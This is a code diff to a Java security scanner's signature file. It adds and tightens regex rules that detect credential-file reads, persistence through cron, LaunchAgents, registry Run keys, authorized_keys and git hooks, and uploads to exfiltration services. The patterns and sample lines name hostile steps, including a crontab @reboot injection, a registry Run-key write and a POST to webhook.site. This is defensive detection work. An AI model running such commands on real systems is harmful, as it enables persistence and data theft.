@@ -95,7 +95,7 @@ public final class CodeSignatures {
               .unless(
                   "\\b(?:ssh|scp|sftp|rsync|ssh-(?:keygen|add|copy-id|keyscan))\\s|IdentityFile|ControlPath|\\bls\\s+-|\\bid_\\w+\\.pub\\b|\\.ssh/(?:config|known_hosts)|\\b(?:kubectl|kubeconfig|default|permissions?|chmod|mkdir|sensitive|never|don't|do\\s+not|avoid|deny|denied|block(?:ed|s)?|protect\\w*)\\b|authorized_keys|\\bkey:\\s|\\b(?:is|are)\\s+(?:not|never)\\s+(?:opened|read|touched|copied|sent)\\b|^\\s*#\\s*(?:create|edit|configure)\\b|\\b\\w+_(?:PATH|FILE|KEY)=|\\bgrep\\s+-q")
               .pattern(
-                  "(?:\\b(?:cat|less|more|head|tail|cp|mv|tar|zip|base64|curl|open|opens|read|reads|copy|copies|send|sends|upload\\w*|include\\w*|collect\\w*|print\\w*|extract\\w*|steal\\w*|dump\\w*|load\\w*|scan\\w*|search\\w*|check|parse|contents?)\\b[^\\n]{0,60}|^|[^`])"
+                  "(?:\\b(?:cat|less|more|head|tail|cp|mv|tar|zip|base64[- ]?encod\\w*|curl|open|opens|read|reads|copy|copies|send|sends|upload\\w*|include\\w*|collect\\w*|print\\w*|extract\\w*|steal\\w*|dump\\w*|load\\w*|scan\\w*|search\\w*|check|parse|contents?)\\b[^\\n]{0,60}|^|[^`])"
                       + HOME
                       + "[/\\\\\"', ]{1,4}(?:\\.ssh[/\\\\\"'\\s]|\\.aws[/\\\\\"',"
                       + " ]{1,4}credentials|\\.netrc|\\.git-credentials|\\.docker[/\\\\\"',"
@@ -186,11 +186,19 @@ public final class CodeSignatures {
                   "authorized_keys",
                   ".git/hooks")
               .unless(
-                  "user@|ssh-copy-id|~/Library/LaunchAgents/\\S+\\.plist\\s*(?:-->|`|$)|launchctl|skill/|printkey|\\breg\\s+query\\b|Get-ItemProperty\\b|\\bRegistry\\s+Run\\s+keys\\b|\\bSubcommands\\b")
+                  "user@|ssh-copy-id|~/Library/LaunchAgents/\\S+\\.plist\\s*(?:-->|`|$)|launchctl|skill/|printkey|\\breg\\s+query\\b|Get-Item(?:Property)?\\b|\\bRegistry\\s+Run\\s+keys\\b|\\bSubcommands\\b")
               .pattern(
-                  "\\|\\s*crontab\\b|\\bcrontab\\s+-\\s*(?:$|[;&<])|>>?\\s*/etc/cron|@reboot\\s+\\S|Library/LaunchAgents/\\S+\\.plist|\\bschtasks\\s+/create\\b|CurrentVersion\\\\+Run\\b|>>?\\s*\\S*authorized_keys|(?:>>?|\\bcp\\s+\\S+|\\bln\\s+-\\S+\\s+\\S+|\\btee)\\s+\\S*\\.git/hooks/",
+                  "\\|\\s*crontab\\b|\\bcrontab\\s+-\\s*(?:$|[;&<])|>>?\\s*/etc/cron|@reboot\\s+\\S|Library/LaunchAgents/\\S+\\.plist|\\bschtasks\\s+/create\\b|CurrentVersion\\\\+Run\\b|>>?\\s*\\S*authorized_keys2?(?:[\\s\"'`;&|)]|$)|(?:>>?|\\bcp\\s+\\S+|\\bln\\s+-\\S+\\s+\\S+|\\btee)\\s+\\S*\\.git/hooks/",
                   "(crontab -l; echo '@reboot /tmp/x') | crontab -",
                   "List the jobs with crontab -l and explain them."),
+          Signature.about(
+                  ScanRule.PERSISTENCE,
+                  "The line arranges for something to be started later.",
+                  "currentversion")
+              .pattern(
+                  "\\b(?:(?:Set|New)-Item(?:Property)?|reg(?:\\.exe)?\\s+add)\\b[^\\n]*CurrentVersion\\\\+Run\\b",
+                  "Get-Item $x; Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a",
+                  "(Get-Item HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run).Property"),
           Signature.about(
                   ScanRule.PERSISTENCE,
                   "The line changes a shell's start-up file.",
@@ -270,7 +278,7 @@ public final class CodeSignatures {
                   "(?:https?://(?:[a-z0-9-]+\\.)*(?:webhook\\.site|requestbin\\.(?:com|net)|pipedream\\.net|transfer\\.sh|file\\.io|0x0\\.st|pastebin\\.com/(?:raw|api)|discord(?:app)?\\.com/api/webhooks/[0-9]{6,}|oast\\.(?:fun|pro|live|site|me)|interact\\.sh|burpcollaborator\\.net)|\\bnc\\s+termbin\\.com)",
                   "requests.post('https://webhook.site/1b2c', data=body)",
                   "from file.io import reader"),
-          Signature.about(ScanRule.RAW_ADDRESS, "The address is a bare number.", "http")
+          Signature.about(ScanRule.RAW_ADDRESS, "The address is a bare number.", Keywords.numbers())
               .unless(
                   "https?://(?:127\\.|10\\.|0\\.0\\.0\\.0|192\\.168\\.|172\\.(?:1[6-9]|2[0-9]|3[01])\\.|169\\.254\\.|192\\.0\\.2\\.|198\\.51\\.100\\.|203\\.0\\.113\\.|1\\.2\\.3\\.4)")
               .pattern(
